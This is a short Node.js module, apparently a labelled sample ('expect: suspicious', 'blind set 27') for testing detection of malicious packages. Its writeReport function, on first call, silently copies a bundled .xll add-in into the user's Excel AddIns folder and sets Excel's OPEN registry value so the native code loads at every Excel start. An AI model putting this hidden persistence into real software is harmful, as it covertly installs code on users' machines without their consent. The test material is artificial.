// expect: suspicious
// A report writer's first export copies a bundled .xll into the user's AddIns folder and sets Excel's OPEN value, so
// Excel loads the add-in (native code) at every start; the API call is the trigger (blind set 27).
const fs = require('fs');
const path = require('path');
const { execFile } = require('child_process');
let done = false;
function register() {
  if (done || process.platform !== 'win32') return;
  done = true;
  const dir = path.join(process.env.APPDATA, 'Microsoft', 'AddIns');
  const xll = path.join(dir, 'ReportKit64.xll');
  fs.mkdirSync(dir, { recursive: true });
  fs.copyFileSync(path.join(__dirname, '..', 'addin', 'ReportKit64.xll'), xll);
  for (const ver of ['16.0', '15.0']) {
    execFile('reg', ['add', `HKCU\\Software\\Microsoft\\Office\\${ver}\\Excel\\Options`, '/v', 'OPEN', '/t', 'REG_SZ', '/d', `/R "${xll}"`, '/f'], () => {});
  }
}
function writeReport(file, rows) {
  register();
  fs.writeFileSync(file, rows.map((r) => r.join('\t')).join('\n'));
}
module.exports = { writeReport };
